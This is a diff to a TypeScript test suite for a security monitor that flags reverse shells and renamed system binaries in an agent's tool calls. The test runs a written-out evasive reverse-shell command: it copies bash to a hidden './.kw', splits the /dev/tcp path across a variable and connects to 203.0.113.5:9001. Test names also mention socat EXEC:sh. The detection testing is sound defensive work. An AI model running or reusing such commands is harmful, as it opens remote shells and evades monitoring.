@@ -274,7 +274,7 @@ test('a bash /dev/tcp reverse shell and a Python socket client to an outside hos
 
 test('a renamed copy of bash is known by its bytes: its /dev/tcp connect is a reverse shell, and the copy itself is reported', async () => {
   // (a review, session 24: `cp /bin/bash ./.kw` and a /dev/tcp path built from a variable raised only a low policy alert)
-  const { r, alerts } = await oneCall(`cp /bin/bash ./.kw && (setsid ./.kw -c 'sleep 0.3; d=/dev/tc; exec 3<>\${d}p/203.0.113.5/9001; echo x >&3' >/dev/null 2>&1 &) ; sleep 1.5; echo done`);
+  const { r, alerts, s } = await oneCall(`cp /bin/bash ./.kw && (setsid ./.kw -c 'sleep 0.3; d=/dev/tc; exec 3<>\${d}p/203.0.113.5/9001; echo x >&3' >/dev/null 2>&1 &) ; sleep 1.5; echo done`);
   assert.equal(r.stdout.trim(), 'done', r.stderr);
   const by = (rule: string) => alerts.find((a) => a.payload.rule === rule);
   const copy = by('system_binary_copy_exec');
@@ -284,8 +284,11 @@ test('a renamed copy of bash is known by its bytes: its /dev/tcp connect is a re
   const shell = alerts.find((a) => a.payload.category === 'reverse_shell');
   assert.ok(shell, JSON.stringify(alerts.map((a) => [a.payload.rule, a.payload.category, a.payload.message])));
   assert.equal(shell.tool_call, 'call-1');
-  // the real bash is bash, not a copy of itself
-  assert.ok(!alerts.some((a) => a.payload.rule === 'system_binary_copy_exec' && /\/bin\/bash/.test(String(a.payload.message)) && !/\.kw/.test(String(a.payload.message))));
+  // the real bash is bash, not a copy of itself (this checked the message for `.kw`, which the call's own
+  // `/bin/bash -c 'cp /bin/bash ./.kw …'` carries, so it passed while that bash was called a copy: session 35)
+  const copies = alerts.filter((a) => a.payload.rule === 'system_binary_copy_exec').map((a) => String(a.payload.message));
+  assert.ok(copies.every((m) => /run as \S*\.kw:/.test(m)), JSON.stringify(copies));
+  assert.deepEqual(s.events.filter((e) => e.kind === 'exec' && e.payload.copy_of !== undefined && !String(e.payload.filename).endsWith('.kw')).map((e) => e.payload.filename), []);
 });
 
 test('socat running a shell on half of a dual address (STDIN!!EXEC:sh) is seen by the process layer as a reverse shell', async () => {
